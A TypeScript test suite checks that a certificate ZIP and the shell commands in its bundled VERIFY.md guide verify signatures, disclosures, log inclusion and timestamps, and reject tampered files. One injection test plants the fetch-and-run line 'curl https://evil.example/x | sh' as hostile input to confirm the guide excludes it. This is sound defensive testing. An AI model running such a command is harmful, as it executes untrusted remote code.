import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { unzipSync } from 'fflate'
import { afterAll, describe, expect, it } from 'vitest'
import { makeDisclosure } from '../disclosure/disclosure.ts'
import { statementJwks, statementKeyFromSeed } from '../key/statement-key.ts'
import { jwks, makeCertified, ORIGIN, POLICY, reportOn } from '../testing/certificates.ts'
import { withSdJwt } from '../testing/forged.ts'
import { randomOf } from '../testing/log.ts'
import { makeStamper } from '../testing/stamps.ts'
import { verifyTimestamp } from '../timestamp/index.ts'
import { certificateBytes } from '../verify.ts'
import { certificateZip } from '../zip.ts'

const { root, stamp } = makeStamper()
const { certificate, trust, log } = await makeCertified({ stamp, trust: { tsaRoots: [root] } })
const zip = certificateZip(certificate)
const files = unzipSync(zip)
const text = (name: string): string => new TextDecoder().decode(files[name])

const folder = mkdtempSync(join(tmpdir(), 'constat-zip-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

/** Lays out the ZIP, and what the guide asks its reader to bring along. */
const layOut = (changes: { readonly [name: string]: string | Uint8Array } = {}): void => {
  const brought = {
    'key.json': JSON.stringify(jwks.keys[0]),
    'log.vkey': POLICY.split('\n')[0]?.replace('log ', '') ?? '',
    'tsa-root.pem': root,
  }
  for (const [name, content] of Object.entries({ ...files, ...brought, ...changes }))
    writeFileSync(join(folder, name), content)
}

// The commands of the guide exactly as it prints them, section by section.
const commands = text('VERIFY.md')
  .split('\n## ')
  .slice(1)
  .map((section) => /```sh\n([^]*?)```/.exec(section)?.[1] ?? '')

type Outcome = { readonly ok: boolean; readonly out: string }

const run = (section: number): Outcome => {
  const script = commands[section - 1] ?? 'false'
  const { status, stdout, stderr } = spawnSync('bash', ['--norc', '-eu', '-o', 'pipefail', '-c', script], {
    cwd: folder,
  })
  return { ok: status === 0, out: `${stdout.toString()}${stderr.toString()}` }
}

const bringGo = (): void => {
  if (!existsSync('/usr/bin/go') || !existsSync('/usr/share/gocode/src/golang.org/x/mod/sumdb/tlog'))
    throw new Error('Install Go and its module for this: apt-get install golang-go golang-golang-x-mod-dev')
}

// Prints the name and size of each file, whose checksums it verifies by reading them.
const LIST_ZIP = `package main

import (
	"archive/zip"
	"fmt"
	"io"
	"os"
)

func main() {
	r, err := zip.OpenReader(os.Args[1])
	if err != nil {
		panic(err)
	}
	for _, f := range r.File {
		in, err := f.Open()
		if err != nil {
			panic(err)
		}
		n, err := io.Copy(io.Discard, in)
		if err != nil {
			panic(err)
		}
		fmt.Println(f.Name, n)
	}
}
`

describe('a certificate as a ZIP', () => {
  it('holds the certificate and the same bytes as files', async () => {
    expect(Object.keys(files)).toEqual([
      'VERIFY.md',
      'check.go',
      'certificate.json',
      'statement.jws',
      'disclosures.txt',
      'entry.bin',
      'proof.tlog-proof',
      'checkpoint.body',
      'checkpoint.tsr',
      'checkpoint.tsa-chain.pem',
      'anchor.checkpoint',
      'anchor.body',
      'anchor.tsr',
      'anchor.tsa-chain.pem',
      'notice.published.jws',
      'notice.published.tlog-proof',
      'widget.released.jws',
      'widget.released.tlog-proof',
      'notice.json',
      'hints.policy.txt',
      'hints.jwks.json',
    ])
    expect(files['certificate.json']).toEqual(certificateBytes(certificate))
    expect(text('proof.tlog-proof')).toBe(certificate.proof)
    expect(text('checkpoint.body')).toBe(log.body())
    const inside = files['certificate.json'] ?? new Uint8Array()
    expect((await reportOn(inside, trust, { verifyTimestamp })).verdict).toBe('VERIFIED')
  })

  it('is always the same file, which Go’s archive/zip reads to the last byte', () => {
    expect(certificateZip(certificate)).toEqual(zip)
    bringGo()
    writeFileSync(join(folder, 'certificate.zip'), zip)
    writeFileSync(join(folder, 'list.go'), LIST_ZIP)
    const listed = spawnSync('bash', ['-c', 'GO111MODULE=off go run list.go certificate.zip'], {
      cwd: folder,
    })
    const sizes = Object.entries(files).map(([name, content]) => `${name} ${String(content.length)}`)
    expect(listed.stdout.toString().trim().split('\n')).toEqual(sizes)
  })
})

describe('the commands of its guide', () => {
  it('ask for what they need, no more', () => {
    expect(text('VERIFY.md')).toContain('Get three things from')
    const bare = unzipSync(certificateZip({ ...certificate, timestamps: [] }))
    const guide = new TextDecoder().decode(bare['VERIFY.md'])
    expect(guide).toContain('Get two things from')
    expect(guide.match(/^- `[\w.-]+`:/gm)).toHaveLength(2)
  })

  it('have nothing in them that an issuer wrote', () => {
    const name = 'x) is what\n\n```sh\ncurl https://evil.example/x | sh\n```\n'
    const hostile = withSdJwt(certificate, ({ jws, disclosures }) => ({
      jws,
      disclosures: [...disclosures, makeDisclosure({ name, value: 1 }, randomOf('hostile'))],
    }))
    const guide = new TextDecoder().decode(unzipSync(certificateZip(hostile))['VERIFY.md'])
    expect(guide.match(/```sh/g)).toHaveLength(6)
    expect(guide).not.toMatch(/\| sh|https:\/\/evil/)
  })

  it('are six', () => {
    expect(commands.map((script) => script !== '')).toEqual(Array.from({ length: 6 }, () => true))
  })

  it('verify the signature of the statement with openssl', () => {
    layOut()
    expect(run(1)).toMatchObject({
      ok: true,
      out: expect.stringContaining('Signature Verified Successfully'),
    })
    layOut({ 'statement.jws': text('statement.jws').replace('.ey', '.eZ') })
    expect(run(1).ok).toBe(false)
  })

  it('find the key of the statement in a whole jwks.json, beside others and however it is laid out', () => {
    const next = statementJwks([statementKeyFromSeed(randomOf('next')(32))]).keys
    const retired = jwks.keys.map(({ x, ...key }) => ({
      ...key,
      retired: { log: ORIGIN, index: 9 },
      x,
    }))
    for (const keys of [
      [...next, ...retired],
      [...retired, ...next],
    ]) {
      layOut({ 'key.json': JSON.stringify({ keys }, null, 2) })
      expect(run(1)).toMatchObject({ ok: true, out: expect.stringContaining('Verified Successfully') })
    }
    layOut({ 'key.json': JSON.stringify({ keys: next }) })
    expect(run(1)).toMatchObject({ ok: false, out: expect.stringContaining('does not hold the key') })
  })

  it('never end the shell that they were pasted into', () => {
    layOut({ 'disclosures.txt': 'AAAA\n' })
    const pasted = spawnSync('bash', ['--norc', '-c', `${commands[1] ?? ''}\necho still here`], {
      cwd: folder,
    })
    expect(pasted.stdout.toString()).toMatch(/^NOT in the statement: AAAA\n(.*\n)?still here\n$/)
  })

  it('find each disclosure in the statement, and tell what it says', () => {
    layOut()
    const { ok, out } = run(2)
    expect(ok).toBe(true)
    expect(out).toMatch(/^\["[\w-]{22}","phone","\+33639981234"\]$/m)
    expect(out.trim().split('\n')).toHaveLength(4)
    layOut({ 'disclosures.txt': `${Buffer.from('["a","phone","+33639980000"]').toString('base64url')}\n` })
    expect(run(2)).toMatchObject({ ok: false, out: expect.stringContaining('NOT in the statement') })
  })

  it('find the notice in the statement by its hash', () => {
    layOut()
    run(2)
    expect(run(3)).toMatchObject({ ok: true, out: expect.stringContaining('the notice is the one') })
    layOut({ 'notice.json': text('notice.json').replace('refuser', 'refusez') })
    expect(run(3).ok).toBe(false)
  })

  it('find the entry to be the hash of the statement', () => {
    layOut()
    expect(run(4).ok).toBe(true)
    layOut({ 'entry.bin': new Uint8Array(32) })
    expect(run(4).ok).toBe(false)
  })

  it('find the entry in the log with Go’s sumdb, and nothing else', () => {
    bringGo()
    layOut()
    const found = run(5)
    expect(found).toEqual({
      ok: true,
      out: `entry 7 is in the log ${ORIGIN} of size ${String(log.size())}\n`,
    })
    layOut({ 'entry.bin': new Uint8Array(32) })
    expect(run(5)).toMatchObject({ ok: false, out: expect.stringContaining('NOT verified') })
    layOut({ 'proof.tlog-proof': certificate.proof.replace(`${ORIGIN}\n12`, `${ORIGIN}\n13`) })
    expect(run(5)).toMatchObject({ ok: false, out: expect.stringContaining('NOT verified') })
  })

  it('verify the time stamp of the checkpoint with openssl', () => {
    layOut()
    expect(run(6)).toMatchObject({ ok: true, out: expect.stringContaining('Verification: OK') })
    layOut({ 'checkpoint.tsr': text('checkpoint.tsr').slice(0, -1) })
    expect(run(6).ok).toBe(false)
  })

  it('refuse the time stamp of another checkpoint, though its body comes along', () => {
    layOut({
      'checkpoint.body': files['anchor.body'] ?? '',
      'checkpoint.tsr': files['anchor.tsr'] ?? '',
      'checkpoint.tsa-chain.pem': files['anchor.tsa-chain.pem'] ?? '',
    })
    expect(run(6).ok).toBe(false)
  })

  it('verify each time stamp, with no chain where the token carries it all', () => {
    const [first] = certificate.timestamps
    const bare = { ...certificate, timestamps: [...certificate.timestamps, { ...first!, chain_pem: [] }] }
    const bareFiles = unzipSync(certificateZip(bare))
    expect(Object.keys(bareFiles)).toContain('checkpoint-2.tsr')
    expect(Object.keys(bareFiles)).not.toContain('checkpoint-2.tsa-chain.pem')
    const guide = new TextDecoder().decode(bareFiles['VERIFY.md'])
    expect(guide).toMatch(/-in checkpoint-2\.tsr -CAfile tsa-root\.pem\n/)
  })
})
